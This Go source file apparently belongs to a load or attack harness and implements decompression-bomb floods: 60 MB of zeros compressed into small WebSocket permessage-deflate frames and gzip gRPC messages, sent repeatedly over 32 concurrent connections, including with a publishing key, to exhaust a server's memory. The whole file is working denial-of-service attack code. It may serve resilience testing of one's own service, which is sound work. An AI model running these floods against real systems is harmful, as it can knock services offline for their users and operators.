package main

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"io"
)

// bombs are small and become large when they are decompressed.
var bombs = []attack{
	{name: "bomb-websocket", what: "32 WebSockets send 60 KB that are 60 MB", flags: []string{"--frontend.ws.deflate"}, flood: webSocketBombs},
	{name: "bomb-grpc-backends", what: "32 connections publish with a key 60 KB that are 60 MB", flood: grpcBombs(onBackends, true)},
	{name: "bomb-grpc-devices", what: "32 connections open with 60 KB that are 60 MB", flood: grpcBombs(onDevices, false)},
}

const bombSize = 60 << 20

// pour writes the bomb's contents.
func pour(w io.Writer) {
	zeros := make([]byte, 1<<20)
	for range bombSize / len(zeros) {
		_, _ = w.Write(zeros)
	}
}

func webSocketBombs(ctx context.Context, t *target) {
	var b bytes.Buffer
	z, _ := flate.NewWriter(&b, flate.BestCompression) // the level is a good one
	pour(z)
	_ = z.Flush()
	bomb := frame(0xc1, bytes.TrimSuffix(b.Bytes(), []byte{0, 0, 0xff, 0xff})) // RFC 7692 7.2.1
	t.each(ctx, t.n(32, 8), func(ctx context.Context, i int) error {
		c, err := webSocket(ctx, t, fmt.Sprintf("device-%d", i), "Sec-WebSocket-Extensions: permessage-deflate\r\n")
		if err != nil {
			return err
		}
		defer c.Close()
		for {
			if _, err := c.Write(bomb); err != nil {
				return err
			}
			t.count("bombs", 1)
		}
	})
}

func grpcBombs(at place, key bool) func(ctx context.Context, t *target) {
	return func(ctx context.Context, t *target) {
		var b bytes.Buffer
		z, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
		pour(z)
		_ = z.Close()
		bomb := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(b.Len())), b.Bytes()...)
		t.each(ctx, t.n(32, 8), func(ctx context.Context, _ int) error { return throw(ctx, t, at, key, bomb) })
	}
}

// throw sends a bomb in each of some calls of a connection, so many that the connection's first window bears them.
func throw(ctx context.Context, t *target, at place, key bool, bomb []byte) error {
	addr, method, _ := at(t)
	bearer := ""
	if key {
		method, bearer = methodPublish, t.Key
	}
	h, err := dialH2(ctx, t, addr, nil, false)
	if err != nil {
		return err
	}
	defer h.close()
	err = h.write(func() error {
		id, err := h.openLocked(method, bearer, "grpc-encoding", "gzip")
		for rest := bomb; err == nil && len(rest) > 0; {
			n := min(len(rest), 16<<10)
			err = h.framer.WriteData(id, n == len(rest), rest[:n])
			rest = rest[n:]
		}
		return err
	})
	t.count("bombs", 1)
	sleep(ctx, failPause)
	return err
}
